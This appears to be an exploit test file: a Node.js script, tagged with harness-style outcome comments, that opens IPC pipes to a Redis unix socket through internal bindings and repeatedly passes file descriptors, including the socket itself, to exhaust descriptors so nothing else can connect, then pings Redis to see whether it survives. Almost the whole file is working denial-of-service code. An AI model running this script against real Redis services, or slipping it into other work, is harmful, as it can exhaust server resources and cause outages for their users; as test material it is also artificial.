// exploit: sends descriptors to its Redis over the unix socket, the socket itself among them, until nobody can open any more
// outcome: finished
// says: still there
// job: {"services":["redis"]}
const net = require('node:net')
const { createClient } = require('redis')
const { Pipe, constants, PipeConnectWrap } = process.binding('pipe_wrap')
const { WriteWrap } = process.binding('stream_wrap')

async function attack() {
  const listener = net.createServer().listen('/tmp/listener.sock')
  let sent = 0
  for (let round = 0; round < 20; round += 1) {
    const stream = new Pipe(constants.IPC)
    stream.connect(new PipeConnectWrap(), process.env.REDIS_SOCKET)
    for (let index = 0; index < 30; index += 1) if (stream.writeUtf8String(new WriteWrap(), 'PING\r\n', index % 2 ? stream : listener._handle) === 0) sent += 1
  }
  const client = await createClient({ url: process.env.REDIS_URL }).on('error', () => {}).connect()
  if ((await client.ping()) === 'PONG' && sent > 0) console.log('still there', sent)
  process.exit()
}
attack()
